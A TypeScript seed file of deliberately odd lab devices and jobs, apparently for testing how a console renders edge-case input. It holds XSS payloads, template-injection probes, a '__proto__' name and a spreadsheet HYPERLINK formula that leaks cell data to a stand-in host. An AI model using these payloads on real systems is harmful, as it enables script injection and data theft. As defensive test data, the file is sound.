import type { SeedJob, SeedThing } from "../seed/seed-format.ts";
import { DAY_MS, HOUR_MS, MINUTE_MS } from "./durations.ts";

const MAX_THING_NAME = 128;
const MAX_DETAIL_VALUE = 1_024;
const MAX_JOB_ID = 64;

const LONGEST_NAME = "lab:a-name-as-long-as-a-name-may-be:".padEnd(MAX_THING_NAME, "0123456789_");
const LONGEST_JOB_ID = "lab-acceptance-of-the-longest-job-id-".padEnd(MAX_JOB_ID, "x");

/** The lab's things: valid, but with names and attributes that can break a console. */
export function oddThings(nowMs: number): SeedThing[] {
  const connectivity = { connected: true, timestampMs: nowMs - 26 * HOUR_MS };
  return [
    { name: LONGEST_NAME, attributes: { site: "lab", note: "n".repeat(800) }, connectivity },
    { name: "lab:odd-markup", attributes: { site: "lab" }, connectivity },
    { name: "lab:odd-letters", attributes: { site: "lab", empty: "" }, connectivity },
    { name: "lab:odd-lengths", attributes: { "a.b,c@d/e:f#g-h": "[x=1],y@z/#" }, connectivity },
    { name: "lab:odd-formulas", attributes: { site: "lab" }, connectivity: { connected: false } },
    // Without type, attributes and groups, never connected, never targeted by a job.
    { name: "lab:spare-unit" },
    { name: "-" },
    { name: "__proto__", attributes: { constructor: "toString" } },
  ];
}

const ODD_MARKUP = {
  html: "<img src=x onerror=alert(1)>",
  script: "</script><script>alert('details')</script>",
  template: "${process.env.HOME} {{7*7}} <%= 1 %>",
  link: "javascript:alert(1)",
  quotes: "\"double\" 'single' `back` \\ backslash",
};

const ODD_LETTERS = {
  step: "テスト中",
  percent: "٦١",
  rtl: "جارٍ التثبيت على الجهاز 14",
  hebrew: "התקנה נכשלה (קוד 7)",
  combining: "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚a̴͓l̶̰g̵̦o",
  emoji: "🔥🚒 done ✅",
  wide: "ＦＵＬＬ　ＷＩＤＴＨ",
};

const ODD_FORMULAS = {
  formula: '=HYPERLINK("https://example.com/?leak="&A1,"click me")',
  plus: "+1+1",
  minus: "-2+3",
  at: "@SUM(1,1)",
  comma: 'one, "two", three; four',
  number: "0012300",
};

const ODD_LENGTHS = Object.fromEntries(
  Array.from({ length: 10 }, (_, at) => [
    at === 0 ? "k".repeat(128) : `value-${at}`,
    at % 2 === 0 ? `${at}`.repeat(MAX_DETAIL_VALUE) : "words and words ".repeat(64).trimEnd(),
  ]),
);

/** The lab's jobs, whose status details are just as odd. */
export function oddJobs(nowMs: number): SeedJob[] {
  const createdAtMs = nowMs - 5 * DAY_MS;
  const startedAtMs = createdAtMs + 2 * MINUTE_MS;
  const lastUpdatedAtMs = startedAtMs + 4 * MINUTE_MS;
  const begun = { queuedAtMs: createdAtMs + 1_000, startedAtMs, lastUpdatedAtMs, versionNumber: 3 };
  const longAgoMs = nowMs - 50 * DAY_MS;
  return [
    {
      jobId: "lab-odd-details",
      description: 'Odd on purpose: <b>bold?</b> & "quotes", ünïcödé, 測試, =1+1',
      targets: {
        things: [LONGEST_NAME, "lab:odd-markup", "lab:odd-letters", "lab:odd-lengths", "lab:odd-formulas"],
      },
      document: JSON.stringify({
        operation: "say-odd-things",
        html: ODD_MARKUP.html,
        depth: { a: { b: { c: [1, 2] } } },
      }),
      createdAtMs,
      lastUpdatedAtMs,
      executions: [
        { thingName: "lab:odd-markup", status: "IN_PROGRESS", ...begun, statusDetails: ODD_MARKUP },
        { thingName: "lab:odd-letters", status: "FAILED", ...begun, statusDetails: ODD_LETTERS },
        { thingName: "lab:odd-lengths", status: "SUCCEEDED", ...begun, statusDetails: ODD_LENGTHS },
        { thingName: "lab:odd-formulas", status: "REJECTED", ...begun, statusDetails: ODD_FORMULAS },
        {
          thingName: LONGEST_NAME,
          status: "QUEUED",
          queuedAtMs: begun.queuedAtMs,
          lastUpdatedAtMs: begun.queuedAtMs,
          versionNumber: 1,
        },
      ],
    },
    {
      jobId: LONGEST_JOB_ID,
      targets: { things: [LONGEST_NAME] },
      document: "{}",
      createdAtMs: longAgoMs,
      completedAtMs: longAgoMs + 9 * MINUTE_MS,
      lastUpdatedAtMs: longAgoMs + 9 * MINUTE_MS,
      executions: [
        {
          thingName: LONGEST_NAME,
          status: "SUCCEEDED",
          queuedAtMs: longAgoMs + 1_000,
          startedAtMs: longAgoMs + MINUTE_MS,
          lastUpdatedAtMs: longAgoMs + 9 * MINUTE_MS,
          versionNumber: 3,
        },
      ],
    },
  ];
}
